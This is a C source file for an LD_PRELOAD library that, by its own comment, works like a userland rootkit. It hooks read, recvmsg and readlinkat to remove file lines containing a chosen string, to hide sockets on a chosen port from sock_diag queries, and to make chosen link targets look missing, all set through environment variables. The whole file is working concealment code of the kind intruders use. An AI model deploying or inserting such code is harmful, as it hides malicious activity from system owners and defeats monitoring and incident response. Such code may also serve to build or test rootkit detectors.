/* SPDX-License-Identifier: MIT */
/* For LD_PRELOAD: hides things from the program as a rootkit of this kind does. */
/*
 * HIDE_LINE: lines of files that contain this text. HIDE_PORT: sockets with this local port, in
 * answers of sock_diag. HIDE_LINK: links that lead to this text.
 */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define NEXT(name) ((__typeof__(&(name)))dlsym(RTLD_NEXT, #name))

static bool has_text(const char *line, size_t length, const char *text)
{
    return memmem(line, length, text, strlen(text));
}

/* Takes whole lines out; what is left moves to the front. */
static ssize_t without_lines(char *bytes, ssize_t length, const char *text)
{
    char *from = bytes, *to = bytes, *end = bytes + length;

    while (from < end) {
        char *newline = memchr(from, '\n', (size_t)(end - from));
        size_t line = newline ? (size_t)(newline + 1 - from) : (size_t)(end - from);

        if (!has_text(from, line, text)) {
            memmove(to, from, line);
            to += line;
        }
        from += line;
    }
    return to - bytes;
}

ssize_t read(int fd, void *buffer, size_t size)
{
    const char *text = getenv("HIDE_LINE");
    ssize_t length = NEXT(read)(fd, buffer, size);

    return text && length > 0 ? without_lines(buffer, length, text) : length;
}

static bool is_hidden(const struct nlmsghdr *message, uint16_t port)
{
    const struct inet_diag_msg *socket = NLMSG_DATA(message);

    return message->nlmsg_type == SOCK_DIAG_BY_FAMILY &&
           message->nlmsg_len >= NLMSG_LENGTH(sizeof(*socket)) &&
           ntohs(socket->id.idiag_sport) == port;
}

/* One buffer, as the program has it. */
ssize_t recvmsg(int fd, struct msghdr *header, int flags)
{
    const char *port = getenv("HIDE_PORT");
    ssize_t length = NEXT(recvmsg)(fd, header, flags);
    char *bytes = header->msg_iov[0].iov_base;
    size_t at = 0;

    while (port && length > 0 && at + NLMSG_HDRLEN <= (size_t)length) {
        struct nlmsghdr *message = (struct nlmsghdr *)(void *)(bytes + at);

        if (message->nlmsg_len < NLMSG_HDRLEN)
            break;
        if (is_hidden(message, (uint16_t)strtoul(port, NULL, 10)))
            message->nlmsg_type = NLMSG_NOOP;
        at += NLMSG_ALIGN(message->nlmsg_len);
    }
    return length;
}

ssize_t readlinkat(int directory, const char *path, char *target, size_t size)
{
    const char *text = getenv("HIDE_LINK");
    ssize_t length = NEXT(readlinkat)(directory, path, target, size);

    if (text && length > 0 && has_text(target, (size_t)length, text)) {
        errno = ENOENT;
        return -1;
    }
    return length;
}
